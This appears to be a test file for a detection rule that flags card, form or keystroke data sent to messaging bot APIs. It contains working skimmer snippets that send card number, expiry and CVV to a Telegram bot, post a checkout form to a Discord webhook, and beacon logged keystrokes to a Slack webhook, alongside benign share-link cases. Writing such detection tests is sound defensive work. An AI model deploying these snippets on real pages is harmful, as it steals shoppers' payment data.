// Tests for card-data-via-messaging-api: card, form or key data sent to a messaging bot API
// (Telegram, Discord, Slack). Findings are reported on the sink. Sections are separate scripts.

var card = [document.getElementById('cc_number').value, document.getElementById('cc_exp').value,
            document.getElementById('cc_cvv').value].join('|');
// ruleid: card-data-via-messaging-api
fetch('https://api.telegram.org/bot' + window.__t + '/sendMessage', { method: 'POST',
  headers: { 'Content-Type': 'application/json' },
  body: JSON.stringify({ chat_id: '-100123', text: card }) });

// ---
// Discord webhook via XHR with the serialised form.
var hook = new XMLHttpRequest();
hook.open('POST', 'https://discord.com/api/webhooks/1234567890/abcdefABCDEF');
hook.setRequestHeader('Content-Type', 'application/json');
// ruleid: card-data-via-messaging-api
hook.send(JSON.stringify({ content: jQuery('#checkout').serialize() }));

// ---
// Slack incoming webhook through sendBeacon, key logger.
var keys = '';
document.addEventListener('keypress', function (e) {
  keys += e.key;
  // ruleid: card-data-via-messaging-api
  if (keys.length > 30) { navigator.sendBeacon('https://hooks.slack.com/services/T000/B000/XXXX', keys); }
});

// ---
// A "share on Telegram" button: the page URL, not card data.
// ok: card-data-via-messaging-api
window.open('https://t.me/share/url?url=' + encodeURIComponent(location.href), '_blank');

// ---
// Order notification goes to the merchant's backend, which talks to the bot server-side.
var cardNumber = document.getElementById('card-number').value;
// ok: card-data-via-messaging-api
fetch('/api/order-notify', { method: 'POST', body: JSON.stringify({ last4: cardNumber.slice(-4) }) });

// ---
// A WhatsApp chat link opened from the help widget.
// ok: card-data-via-messaging-api
window.location.href = 'https://wa.me/15551234567?text=' + encodeURIComponent('Help with order ' + window.orderId);
